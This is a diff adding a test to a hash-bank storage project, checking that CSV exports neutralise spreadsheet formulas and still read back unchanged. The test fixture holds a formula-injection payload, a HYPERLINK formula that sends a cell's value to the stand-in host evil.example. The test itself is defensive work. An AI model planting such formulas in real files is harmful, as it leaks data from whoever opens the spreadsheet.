@@ -148,3 +148,22 @@ def test_reimport_is_idempotent(store: BankStore) -> None:
     write_entries(store.entries("known"), out, "csv")
     result = store.add_entries("known", read_entries(io.StringIO(out.getvalue()), "csv"), "again")
     assert (result.added, result.duplicates) == (0, 3)
+
+
+def test_csv_exports_neutralise_formulas_and_read_back_unchanged(tmp_path) -> None:
+    """Issue 18.4: a hash list's note must not become a live formula in a bank export."""
+    import csv
+
+    formula = '=HYPERLINK("http://evil.example/?x="&A1,"open")'
+    store = BankStore(tmp_path / "banks")
+    store.create_bank("hostile")
+    store.add_entries("hostile", [NewEntry(md5="a" * 32, category="A1", note=formula),
+                                  NewEntry(md5="b" * 32, category="A1", note="-1 day")],
+                      added_by="tester")
+    out = io.StringIO()
+    write_entries(store.entries("hostile"), out, "csv")
+    cells = [cell for row in csv.reader(io.StringIO(out.getvalue())) for cell in row]
+    assert "'" + formula in cells and "'-1 day" in cells
+    assert not any(cell.startswith(("=", "+", "-", "@")) for cell in cells)
+    back = list(read_entries(io.StringIO(out.getvalue()), "csv"))
+    assert sorted(e.note for e in back) == sorted([formula, "-1 day"])
